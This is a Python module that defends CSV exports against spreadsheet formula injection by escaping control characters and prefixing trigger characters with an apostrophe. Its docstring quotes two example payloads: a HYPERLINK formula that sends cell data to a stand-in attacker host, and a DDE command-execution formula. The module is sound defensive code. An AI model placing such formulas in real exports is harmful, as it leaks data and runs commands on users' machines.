"""CSV cells a spreadsheet opens as data, never as a formula (pure).

Server, pool and DN text comes from the directory, i.e. from whoever can name a
Location. A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
a formula to Excel and LibreOffice (``=HYPERLINK("http://evil.example/?"&B2)``,
``+cmd|' /C calc'!A0``): such text cells get a leading apostrophe, the OWASP rule, which
the spreadsheet hides. Numbers stay numbers (``-3`` is left as it is); ``history
import`` takes the apostrophe off again, so an export imports back unchanged.
"""

from __future__ import annotations

import re
from typing import Final

__all__ = ["TRIGGERS", "neutralize", "restore"]

TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")
_NUMBER: Final = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")
# Control characters (line breaks and tabs included): never part of a real name, and a
# CR or LF in a cell splits a row for some readers. Shown as \xNN, like the terminal.
_CONTROL: Final = re.compile(r"[\x00-\x1f\x7f-\x9f]")


def visible(text: str) -> str:
    r"""``text`` with every control character written ``\xNN`` (a terminal showing
    the file acts on none of them)."""
    return _CONTROL.sub(lambda m: f"\\x{ord(m.group()):02x}", text)


def neutralize(value: object, *, keep_controls: bool = False) -> object:
    r"""``value`` as a CSV cell: control characters as ``\xNN`` (unless
    ``keep_controls``: an export meant to be imported back keeps every character), and
    text that a spreadsheet would run with a ``'`` first."""
    if not isinstance(value, str):
        return value
    if not keep_controls:
        value = visible(value)
    if len(value) > 1 and value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def restore(text: str) -> str:
    """What :func:`neutralize` protected, as it was."""
    if text.startswith("'") and text[1:].startswith(TRIGGERS):
        return text[1:]
    return text
